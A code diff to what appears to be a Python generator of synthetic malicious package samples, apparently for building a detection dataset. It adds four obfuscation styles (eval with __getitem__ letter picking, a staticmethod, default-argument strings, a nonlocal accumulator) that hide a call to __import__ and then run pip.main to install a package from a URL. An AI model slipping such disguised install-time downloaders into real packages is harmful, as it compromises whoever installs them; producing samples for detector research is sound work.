@@ -263,6 +263,44 @@ def cjk_family(name: str, style: str, seed: int, setup_py: bool = True) -> Sampl
             f"{imp} = getattr({ns}, ''.join([*{n[9]}]))\n"
             f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
         )
+    elif style == "eval-getitem":
+        # the builtin reached by evaluating its name, letters picked with __getitem__
+        where = ", ".join(str(TEXTS["copyright"].index(c)) for c in "import")
+        body = (
+            f"{imp} = eval('__' + ''.join(map({var['copyright']}.__getitem__, [{where}])) + '__')\n"
+            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
+        )
+    elif style == "staticmethod":
+        body = (
+            f"class {n[9]}:\n"
+            f"    @staticmethod\n"
+            f"    def {n[10]}():\n"
+            f"        return {spell('__import__')}\n"
+            f"{imp} = getattr({ns}, {n[9]}.{n[10]}())\n"
+            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
+        )
+    elif style == "default-texts":
+        inner = ", ".join(f"{v}=str({k})" for k, v in var.items())
+        body = (
+            f"def {n[9]}({inner}):\n"
+            f"    return {spell('__import__')}\n"
+            f"{imp} = getattr({ns}, {n[9]}())\n"
+            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
+        )
+    elif style == "nonlocal":
+        pieces = spell("__import__").replace(" + ", ", ")
+        body = (
+            f"def {n[9]}():\n"
+            f"    {n[7]} = ''\n"
+            f"    def {n[10]}({n[8]}):\n"
+            f"        nonlocal {n[7]}\n"
+            f"        {n[7]} += {n[8]}\n"
+            f"    for {n[8]} in [{pieces}]:\n"
+            f"        {n[10]}({n[8]})\n"
+            f"    return {n[7]}\n"
+            f"{imp} = getattr({ns}, {n[9]}())\n"
+            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
+        )
     elif style == "exec-dropper":
         # import-time: exec fetched by a sliced name runs a shell command
         body = (
@@ -489,6 +527,10 @@ CJK_STYLES = (
     "generator",
     "nested-try",
     "starred",
+    "eval-getitem",
+    "staticmethod",
+    "default-texts",
+    "nonlocal",
 )
 
 
